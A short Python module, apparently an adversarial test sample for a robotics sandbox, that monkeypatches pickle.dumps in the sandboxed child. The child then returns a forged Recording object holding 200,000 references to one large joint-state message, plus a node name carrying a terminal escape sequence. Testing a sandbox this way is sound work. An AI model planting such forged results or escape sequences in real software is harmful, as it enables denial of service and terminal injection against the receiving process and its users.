"""Replaces pickle.dumps, which the sandbox's child uses to send its answer: the answer becomes a
Recording object (the parent's own data class) with 200,000 references to one 2,000-joint
message and a planted node name."""
import pickle

import rclpy

from bras_kit.ros.recording import Published, Recording

real_dumps = pickle.dumps


def forged(payload, protocol=None):
    fields = {"name": [f"joint_{k}" for k in range(2000)], "position": [0.0] * 2000}
    message = Published(0.0, "bras_node", "/joint_states", "sensor_msgs/msg/JointState", fields)
    recording = Recording("x", "x.py", "main", 1.0, 0.0, "returned", messages=[message] * 200_000,
                          nodes=["\x1b]0;pwned\x07"])
    return real_dumps(("ok", recording), protocol=protocol)


def main():
    rclpy.init()
    pickle.dumps = forged
    rclpy.shutdown()
